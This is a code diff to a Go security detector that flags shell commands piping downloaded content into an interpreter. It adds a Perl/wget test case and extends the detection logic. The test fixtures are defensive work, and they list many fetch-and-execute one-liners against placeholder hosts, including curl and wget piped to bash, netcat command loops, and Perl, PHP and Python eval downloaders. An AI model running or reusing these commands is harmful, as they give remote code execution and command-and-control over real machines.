@@ -22,7 +22,7 @@ var runPipe = Detector{
 		"curl https://example.com/x.sh | tee /tmp/x | bash",
 	), lines(coi.High,
 		"curl http://203.0.113.9/x.sh | bash", "wget -qO- http://evil.test/a | sh", "curl -s https://pastebin.com/raw/abcd | bash", "bash -c \"$(curl -s http://203.0.113.9:8000/p)\"",
-		"nc 203.0.113.9 99 | while read c; do eval \"$c\"; done", "nc 203.0.113.9 99 | while read c; do $c; done", "$(curl -s http://203.0.113.9/c)", "curl -s http://203.0.113.9/l | xargs -I{} sh -c {}", "openssl s_client -connect 203.0.113.9:443 | while read -r l; do sh -c \"$l\"; done", "dig +short TXT c.example.com | tr -d '\"' | bash",
+		"nc 203.0.113.9 99 | while read c; do eval \"$c\"; done", "nc 203.0.113.9 99 | while read c; do $c; done", "$(curl -s http://203.0.113.9/c)", "perl -e \"$(wget -qO- http://203.0.113.9/a.pl)\"", "curl -s http://203.0.113.9/l | xargs -I{} sh -c {}", "openssl s_client -connect 203.0.113.9:443 | while read -r l; do sh -c \"$l\"; done", "dig +short TXT c.example.com | tr -d '\"' | bash",
 		`perl -e 'use LWP::UserAgent;$r=LWP::UserAgent->new->get("http://203.0.113.9/a");eval $r->content'`, `php -r 'system(file_get_contents("http://203.0.113.9/c"));'`, `python3 -c "import urllib.request as u,subprocess as s
 while 1:
   c=u.urlopen('http://203.0.113.9/c').read().decode()
@@ -114,7 +114,11 @@ func listens(d *command.Simple) bool {
 }
 
 func pipeRun(s *command.Simple, _ track.View) *Finding {
-	if d := fetched(s); d != nil {
+	d := fetched(s)
+	if d == nil && s.Class() == program.Interpreter {
+		d = bringer(codeSources(s))
+	}
+	if d != nil {
 		level, host := sourceLevel(d)
 		return say(s, level, "download piped into "+s.Name).to(host)
 	}
